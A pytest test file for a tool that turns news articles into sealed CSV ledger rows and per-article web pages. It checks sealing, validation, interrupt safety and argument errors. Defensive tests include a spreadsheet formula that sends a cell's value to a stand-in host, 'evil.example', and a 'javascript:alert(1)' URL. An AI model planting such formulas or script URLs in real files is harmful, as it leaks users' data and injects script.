"""A text becomes a folder of rows: by rule as far as its words go, then by few cells typed, and no other article notices."""

import dataclasses
import functools
import json
import shutil
import subprocess
import sys

import article_loop as loop
import pandas as pd
import pytest
from command_line import command
from notebook_runs import ARTICLES

from analysis import DATA, ROOT, brief, charts, ledger, revenue, timeline, verdicts
from analysis.audit import accepting, new_article, site
from analysis.ledger import ArticleError, LedgerError, ParameterError, check, folders, package, seals

MOST_CELLS = 40  # that a person types for an article of about 350 words
TOPIC = ledger.read().articles[0]


@pytest.fixture(scope="module")
def brought(tmp_path_factory):
    """A ledger with both invented articles, sealed; how many cells each took; the site of each."""
    place = tmp_path_factory.mktemp("articles")
    data = shutil.copytree(DATA, place / "data")
    typed = {one[3]: loop.bring(one, data, place / f"{one[0]}.csv") for one in (loop.PORT, loop.WORKERS)}
    sites = {one[3]: site.files(one[3], ARTICLES / f"{one[0]}.txt", data) for one in (loop.PORT, loop.WORKERS)}
    return data, typed, sites


@pytest.mark.parametrize("article", [loop.PORT, loop.WORKERS], ids=lambda one: one[0])
def test_few_cells_are_typed_and_every_figure_is_accounted_for(brought, article):
    _, typed, sites = brought
    name, text = article[3], ARTICLES / f"{article[0]}.txt"
    assert 300 < len(text.read_text(encoding="utf-8").split()) < 400 and 0 < typed[name] <= MOST_CELLS
    files, said, wrong = sites[name]
    assert wrong == []
    assert {"index.html", "claims.html", "timeline.html", "audit.html", "verdicts.html"} < files.keys()
    assert any(line.startswith("All ") and "are accounted for" in line for line in said)
    assert "0 of the 0" not in "".join(files.values())


def test_what_is_no_address_is_no_link(brought, tmp_path):
    data = shutil.copytree(brought[0], tmp_path / "data")
    path = data / "articles" / "port-2025" / "source.csv"
    path.write_text(path.read_text(encoding="utf-8").replace("https://www.news.example/port", "https://a@b.example/"))
    done = command("check", data, "--article", "port-2025")
    assert done.returncode == 1 and "column url: found 'https://a@b.example/', must be an address" in done.stdout


def test_many_new_rows_are_sealed_at_once_and_a_changed_one_cannot_hide(data, tmp_path):
    home = loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
    loop.type_in("port", home)
    accepting.accept("port-2025", data)
    rows = len(new_article.unsealed("port-2025", data))
    done = command("check", data, "--article", "port-2025", "--seal")
    assert rows > seals.MOST and f"{rows} rows sealed" in done.stdout
    found = loop.rows(home / "claims.csv")
    found[0]["asserted_by"] = "a clerk: was never looked at: run"
    loop.write(home / "claims.csv", found)
    done = command("check", data, "--article", "port-2025")
    assert done.returncode == 1 and "changed since it was last looked at" in done.stderr


def test_an_article_changes_nothing_of_another(brought, tmp_path):
    """The topic's answer is the same with and without two more articles, and theirs whatever becomes of the others."""
    data, _, sites = brought
    before, after = ledger.read(), ledger.read(data)
    for field in dataclasses.fields(before):
        one, other = getattr(before, field.name), getattr(after, field.name)
        if isinstance(one, pd.DataFrame):
            pd.testing.assert_frame_equal(one, other)
    assert outputs(before, TOPIC) == outputs(after, TOPIC)
    alone = shutil.copytree(data, tmp_path / "alone")
    shutil.rmtree(alone / "articles" / TOPIC)
    (alone / "articles" / "primorye-2024" / "claims.csv").write_text('a stray " quote\n')
    assert site.files("port-2025", ARTICLES / "port.txt", alone) == sites["port-2025"]
    assert check.problems(alone, article="port-2025") == []


def outputs(book, article):
    """Return what the rooms compute for an article."""
    span = timeline.window(book, article)
    return [
        brief.answer(book, article)["sentence"].tolist(),
        verdicts.judge(book, article).to_csv(),
        charts.dated_events(book, article, *span).data.to_csv(),
        revenue.rebuild(book).to_csv(),
    ]


def test_a_draft_is_no_part_of_the_ledger_until_it_is_sealed(data, tmp_path):
    home = loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
    assert folders.drafts(data) == ["port-2025"] and check.problems(data) == []
    with pytest.raises(LedgerError, match="cells are blank or wrong"):
        new_article.seal("port-2025", "2026-11-24", data)
    loop.type_in("port", home)
    accepting.accept("port-2025", data)
    assert "this is a draft" in site.files("port-2025", folder=data)[0]["index.html"]
    assert new_article.seal("port-2025", "2026-11-24", data) > 50
    assert "this is a draft" not in site.files("port-2025", folder=data)[0]["index.html"]
    assert folders.drafts(data) == [] and check.problems(data) == []
    assert set(pd.read_csv(home / "reviews.csv")["looks"]) == {1}
    assert [line for line in seals.faults(package.read(data, [TOPIC, "port-2025"])) if "port-2025" in line] == []
    with pytest.raises(LedgerError, match="sealed already"):
        new_article.seal("port-2025", "2026-11-24", data)
    statement = "port-2025,,fact,Much cargo,The port moved much cargo.,1,,2025,"
    (home / "theses.csv").write_text(
        "thesis_id,source_id,role,kind,short,statement,paragraphs,claim_id,period,note\n"
        f"port-2025/thesis-cargo,{statement}\n"
    )
    before = (home / "reviews.csv").read_text(encoding="utf-8")
    assert new_article.seal("port-2025", "2026-11-25", data) == 1, "a row written later"
    assert (home / "reviews.csv").read_text(encoding="utf-8").startswith(before)
    text = (home / "claims.csv").read_text(encoding="utf-8")
    (home / "claims.csv").write_text(text.replace(",fraction,", ",rise,", 1), encoding="utf-8")
    assert any("column measure" in line for line in seals.faults(package.read(data, [TOPIC, "port-2025"])))
    done = command("check", data, "--article", "port-2025")
    assert done.returncode == 1 and "column measure: found 'rise'; changed since it was last looked" in done.stderr


def test_two_sealed_articles_may_use_the_same_terms(data, tmp_path):
    for name in ("port-2025", "harbour-2025"):
        loop.bring((*loop.PORT[:3], name), data, tmp_path / f"{name}.csv")
    shared = set.intersection(*(set(pd.read_csv(path)["name"]) for path in data.glob("articles/*-2025/terms.csv")))
    assert shared and check.problems(data) == []
    found = check.problems(data, seals=True)
    assert [line for line in found if "-2025/" in line and "donga" not in line] == []


def test_the_text_of_another_article_is_refused_and_an_edited_copy_named(brought, tmp_path):
    data, *_ = brought
    with pytest.raises(ArticleError, match="workers.txt is the text of another article"):
        site.files("port-2025", ARTICLES / "workers.txt", data)
    copy = tmp_path / "copy.txt"
    copy.write_text((ARTICLES / "port.txt").read_text(encoding="utf-8").replace("the", "this", 1), encoding="utf-8")
    _, said, _ = site.files("port-2025", copy, data)
    assert said[0].startswith("another copy: paragraph ") and said[0].endswith("differs from the ledger's copy")
    text = copy.read_text(encoding="utf-8")
    wording = next(
        row["wording"]
        for row in loop.rows(data / "articles" / "port-2025" / "claims.csv")
        if text.count(row["wording"]) == 1
    )
    copy.write_text(text.replace(wording, "none"), encoding="utf-8")
    pages, _, wrong = site.files("port-2025", copy, data)
    assert wrong and "What does not add up?" in pages["index.html"]


def test_an_error_in_a_draft_names_the_command_that_lists_all(data, tmp_path):
    loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
    with pytest.raises(LedgerError, match=r"python -m analysis check --article port-2025\)"):
        ledger.read(data, source="port-2025")


def test_what_is_missing_is_listed_in_the_order_of_the_text(data, tmp_path):
    loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
    done = command("check", data, "--article", "port-2025")
    rows = [line.split()[0] for line in done.stdout.splitlines() if line.startswith("port-2025/")]
    numbers = [int(row.rpartition("-")[2]) for row in rows]
    assert numbers == sorted(numbers) and len(set(numbers)) == len(numbers) >= 2
    assert done.returncode == 1 and done.stdout.count("must not be blank") and "cells are missing" in done.stderr
    sentences = pd.read_csv(tmp_path / "sentences.csv")
    assert set(rows) <= set(sentences["row"]) and sentences["sentence"].str.len().min() > 10
    kept = "".join(path.read_text(encoding="utf-8") for path in (data / "articles" / "port-2025").iterdir())
    assert not any(sentence in kept for sentence in sentences["sentence"] if len(sentence.split()) > 8)


def test_a_sealed_row_is_left_as_it_is_and_a_folder_without_its_source_is_named(data):
    before = (data / "articles" / TOPIC / "claims.csv").read_bytes()
    accepting.accept(TOPIC, data)
    assert (data / "articles" / TOPIC / "claims.csv").read_bytes() == before
    lost = data / "articles" / "lost"
    lost.mkdir()
    (lost / "claims.csv").write_text("claim_id\n")
    assert check.problems(data)[0].startswith("articles/lost: source.csv is missing")


def test_a_table_that_cannot_be_written_stays_as_it_was(data, tmp_path, monkeypatch):
    home = loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
    before = (home / "claims.csv").read_bytes()

    def full(self, rows):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("csv.DictWriter.writerows", full)
    with pytest.raises(LedgerError, match=r"csv cannot be written: No space left"):
        accepting.accept("port-2025", data)
    assert (home / "claims.csv").read_bytes() == before and not list(home.glob("*.tmp"))


def test_no_spreadsheet_runs_a_sentence(data, tmp_path):
    text = tmp_path / "aid.txt"
    text.write_text('=HYPERLINK("http://evil.example"&A1,"click") 12 ships sank in 2024.\n')
    options = {"source_id": "aid-2025", "published": "2025-04-09", "url": "https://a.example/"}
    new_article.write(text, options, folder=data)
    assert "'=HYPERLINK" in (tmp_path / "aid-2025-sentences.csv").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("options", "said"),
    [
        (["--id", "Port"], "--id: given 'Port'"),
        (["--id", TOPIC], "is taken"),
        (["--id", "x" * 300], "allowed: up to 60"),
        (["--id", "x--y"], "--id: given 'x--y'"),
        (["--url", "javascript:alert(1)"], "--url: given 'javascript:alert(1)'; allowed: an http or https address"),
        (["--published", "2099-01-01"], "--published: given '2099-01-01'; allowed: no day to come"),
        (["--published", "April"], "--published: given 'April'"),
        (["--sentences", DATA / "s.csv"], "lies in the project"),
        (["--sentences", "/no/such/folder/s.csv"], "there is no folder /no/such/folder"),
    ],
)
def test_wrong_use_is_one_line_and_makes_no_folder(options, said, data, tmp_path):
    given = {
        "--id": "new",
        "--published": "2025-04-09",
        "--url": "https://a.example/",
        "--sentences": tmp_path / "s.csv",
    }
    given |= dict([options])
    words = [word for pair in given.items() for word in pair]
    done = command("new-article", ARTICLES / "port.txt", *words, "--data", data)
    assert done.returncode == 2 and said in done.stderr and len(done.stderr.splitlines()) == 1
    assert folders.names(data) == [TOPIC] and not (tmp_path / "s.csv").exists()


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("노동자 300명이 2024년에 러시아로 갔다.\n", "hardly in Latin letters"),
        ("He left.\n", "holds no figure and no date"),
    ],
)
def test_a_text_that_no_rule_reads_is_refused_in_one_line(text, said, data, tmp_path):
    (tmp_path / "a.txt").write_text(text, encoding="utf-8")
    given = ["--id", "new", "--published", "2025-04-09", "--url", "https://a.example/"]
    done = command("new-article", tmp_path / "a.txt", *given, "--data", data)
    assert done.returncode != 0 and said in done.stderr and len(done.stderr.splitlines()) == 1
    assert folders.names(data) == [TOPIC]


def test_leaving_a_figure_out_takes_two_cells_and_what_is_not_known_may_stay_open(data, tmp_path):
    text = tmp_path / "aid.txt"
    text.write_text("Some 300 came in three months of 2024. The price was 20 percent.\n")
    options = {"source_id": "aid-2025", "published": "2025-04-09", "url": "https://a.example/", "title": "Aid"}
    home, *_ = new_article.write(text, options, folder=data)
    rows = loop.rows(home / "claims.csv")
    rows[0] |= {"use": "excluded", "note": "A slip.", "measure": "", "unit": "", "period": "", "place": ""}
    loop.write(home / "claims.csv", rows)
    (home / "evidence.csv").write_text(",".join(package.read(data)["evidence"].text.columns) + "\n")
    assert new_article.missing("aid-2025", data) == {}, "evidence is a header without rows"
    assert (
        "Complete what is blank: python -m analysis check --article aid-2025 --accept"
        in command("check", data, "--article", "aid-2025").stdout
    )
    accepting.accept("aid-2025", data)
    assert "--seal" in command("check", data, "--article", "aid-2025").stdout
    assert check.problems(data, article="aid-2025") == []
    kept = loop.rows(home / "claims.csv")
    assert [row["measure"] for row in kept] == ["none", "duration", "price"]
    assert {row["place"] for row in kept[1:]} == {accepting.UNNAMED}


def test_what_no_sentence_says_is_accepted_by_the_person_and_not_drafted(data, tmp_path):
    text = tmp_path / "aid.txt"
    text.write_text("The port shipped 300 tonnes in 2024. It said it would ship 400 tonnes. Some 20 came by May 2.\n")
    options = {"source_id": "aid-2025", "published": "2025-04-09", "url": "https://a.example/", "producer": "The Wire"}
    options["title"] = "Aid"
    home, *_ = new_article.write(text, options, folder=data)
    read = {name: functools.partial(loop.rows, home / f"{name}.csv") for name in ("claims", "events")}
    for table in read.values():
        assert {(row["asserted_by"], row.get("place", ""), row.get("population", "")) for row in table()} == {("",) * 3}
    said = command("check", data, "--article", "aid-2025").stdout
    assert "who says so (asserted_by) in 4 rows" in said and "where (place) in 3 rows" in said
    assert said.count("column asserted_by: blank") == 1, "somebody speaks there"
    assert "needs --accept" in command("check", data, "--article", "aid-2025", "--place", "Russia").stderr
    said = command("check", data, "--article", "aid-2025", "--accept", "--place", "Russia").stdout
    assert "3 rows left open where: RU" in said and "4 rows left open who says so: The Wire" in said
    claims = read["claims"]()
    assert [row["asserted_by"] for row in claims] == ["The Wire", "", "The Wire"]
    assert {(row["place"], row["population"]) for row in claims} == {("RU", "all")}
    assert {row["asserted_by"] for row in read["events"]()} == {"The Wire"}
    claims[1]["asserted_by"] = "the port"
    loop.write(home / "claims.csv", claims)
    accepting.accept("aid-2025", data)
    assert [row["note"] for row in read["claims"]()] == ["", "", ""], "it is known now who speaks"
    assert check.problems(data, article="aid-2025") == []


def test_a_row_that_was_taken_away_is_named(data, tmp_path):
    home = loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
    assert "No longer there" not in command("check", data, "--article", "port-2025").stdout
    rows = loop.rows(home / "claims.csv")
    number = rows[1]["claim_id"].rpartition("-")[2]
    loop.write(home / "claims.csv", [rows[0], *rows[2:]])
    assert f"No longer there, by their numbers: {number}. " in command("check", data, "--article", "port-2025").stdout


def test_a_wrapped_text_is_refused(data, tmp_path):
    text = tmp_path / "aid.txt"
    text.write_text("Some 300 men came\nto the port on 2 May\nand left it\nin June 2024.\n")
    options = {"source_id": "aid-2025", "published": "2025-04-09", "url": "https://a.example/", "title": "Aid"}
    with pytest.raises(ArticleError, match="3 of 4 lines begin within a sentence"):
        new_article.write(text, options, folder=data)
    assert "aid-2025" not in folders.names(data)


@pytest.mark.parametrize("blank", ["an empty row", "no name"])
def test_a_row_without_a_name_is_named_by_its_line(data, tmp_path, blank):
    home = loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
    rows = loop.rows(home / "claims.csv")
    rows.append(dict.fromkeys(rows[0], "") if blank == "an empty row" else rows[0] | {"claim_id": ""})
    loop.write(home / "claims.csv", rows)
    done = command("check", data, "--article", "port-2025")
    assert done.returncode == 1 and f"claims.csv line {len(rows) + 1}" in done.stdout


def test_faults_of_several_kinds_are_named_at_once(data, tmp_path):
    home = loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
    rows = loop.rows(home / "claims.csv")
    rows[0] |= {"low": "999", "high": "999", "status": "observed"}
    rows[1]["bound"] = "perhaps"
    loop.write(home / "claims.csv", rows)
    found = "".join(line for lines in new_article.missing("port-2025", data).values() for line in lines)
    assert "999 does not stand in the wording" in found and "'perhaps'" in found and "must not be blank" in found


def test_the_record_is_searched_for_claims_like_an_articles_own(brought):
    data, *_ = brought
    near = verdicts.suggested(ledger.read(data, source="primorye-2024"), "primorye-2024")
    claims = ledger.read(data).claims.set_index("claim_id")
    assert len(near) and not near["claim_id"].str.startswith("primorye-2024/").any()
    assert (
        claims.loc[near["claim_id"], "measure"]
        .isin(["worker_flow", "worker_stock", "share", "quota", "visas", "pay", "revenue"])
        .all()
    )
    assert verdicts.suggested(ledger.read(data, source="port-2025"), "port-2025").empty


def test_a_notebook_of_the_topic_says_so_before_it_runs():
    done = command("run", "notebooks/04_shift.ipynb", "-p", "source_id", "port-2025")
    assert done.returncode == 2 and f"04_shift.ipynb asks about {TOPIC} alone" in done.stderr
    assert len(done.stderr.splitlines()) == 1


def test_the_timeline_notebook_runs_for_an_article_on_another_subject(brought, monkeypatch):
    """Its cells run here one after the other; that a kernel runs them too is tested with the notebooks."""
    data, *_ = brought
    monkeypatch.setattr(ledger, "read", functools.partial(ledger.read, data))
    shown = []
    monkeypatch.setattr("IPython.display.display", lambda data, **_: shown.append(json.dumps(data, default=str)))
    cells = json.loads((ROOT / "notebooks" / "02_timeline.ipynb").read_text(encoding="utf-8"))["cells"]
    room = {}
    for source in ("".join(cell["source"]) for cell in cells if cell["cell_type"] == "code"):
        exec(source, room)
        room["source_id"] = "port-2025"
    written = "".join(shown)
    assert "Dong-A" not in written and "China" not in written and "The port opened" in written
    drawn = room["charts"].dated_events(room["book"], "port-2025", room["first"], room["last"], room["day"]).data
    assert len(drawn) >= 2 and set(drawn["side"]) == {"none"}


def test_a_number_between_a_name_and_a_plural_is_no_name_and_a_formula_nobody(data, tmp_path):
    text = tmp_path / "aid.txt"
    text.write_text(
        "It will lend Karvenia 25 trucks for the work.\n=1+1 said they fell twelvefold. The firm sold its last Boeing 737 to them.\n"
    )
    options = {"source_id": "aid-2025", "published": "2025-04-09", "url": "https://a.example/"}
    _, _, claims, _ = new_article.write(text, options, folder=data)
    rows = claims.set_index("wording")
    assert rows.loc["25", "use"] != "excluded" and rows.loc["Boeing 737", "use"] == "excluded"
    assert float(rows.loc["twelvefold", "low"]) == 12
    assert not claims["asserted_by"].str.startswith("=").any()


@pytest.mark.parametrize("error", [KeyboardInterrupt, OSError("no space left")])
def test_half_an_article_is_none(data, tmp_path, monkeypatch, error):
    def cut(name, folder):
        raise error

    monkeypatch.setattr(accepting, "add_terms", cut)
    with pytest.raises((KeyboardInterrupt, OSError)):
        loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
    assert not (data / "articles" / "port-2025").exists() and list(tmp_path.glob("sentences*")) == []


def test_of_two_that_draft_one_article_at_once_the_quicker_keeps_its_draft(data, tmp_path, monkeypatch):
    home, sentences = data / "articles" / "port-2025", tmp_path / "sentences.csv"
    prepare = new_article._proposed

    def overtaken(*given):
        home.mkdir()
        for path in (home / "claims.csv", sentences):
            path.write_text("of the other\n", encoding="utf-8")
        return prepare(*given)

    monkeypatch.setattr(new_article, "_proposed", overtaken)
    with pytest.raises(ParameterError, match="'port-2025' is taken"):
        loop.draft(loop.PORT, data, sentences)
    assert {path.read_text(encoding="utf-8") for path in (home / "claims.csv", sentences)} == {"of the other\n"}


def test_the_same_sentence_twice_gives_rows_that_are_told_apart(data, tmp_path):
    text = tmp_path / "twice.txt"
    text.write_text("The port paid 5 million dollars on Tuesday. " * 3, encoding="utf-8")
    source = {"source_id": "twice-1", "published": "2025-04-09", "url": "https://www.news.example/t", "title": "Paid"}
    new_article.write(text, source, tmp_path / "s.csv", data)
    accepting.accept("twice-1", data)
    rows = loop.rows(data / "articles" / "twice-1" / "claims.csv")
    assert [row["note"] for row in rows] == ["", "The same stands above (1).", "The same stands above (2)."]
    assert check.problems(data, article="twice-1") == []
    with pytest.raises(ParameterError, match="--producer: given 'The\\\\nWire'"):
        new_article.write(text, source | {"source_id": "twice-2", "producer": "The\nWire"}, tmp_path / "t.csv", data)


def test_an_interrupt_leaves_what_is_accepted_whole(data, tmp_path):
    home = loop.draft(loop.PORT, data, tmp_path / "sentences.csv")
    whole = shutil.copytree(data, tmp_path / "whole")
    accepting.accept("port-2025", whole)
    code = (
        "import signal, sys\nfrom analysis.__main__ import main\nfrom analysis.ledger import csvs\nwrite = csvs.write\n"
        "def interrupted(*args):\n    signal.raise_signal(signal.SIGINT)\n    write(*args)\n"
        "csvs.write = interrupted\nmain(['check', sys.argv[1], '--article', 'port-2025', '--accept'])"
    )
    done = subprocess.run([sys.executable, "-c", code, data], capture_output=True, text=True)
    assert (done.returncode, done.stderr) == (130, "error: interrupted; what was written is whole\n")
    for path in home.iterdir():
        assert path.read_bytes() == (whole / path.relative_to(data)).read_bytes(), path.name
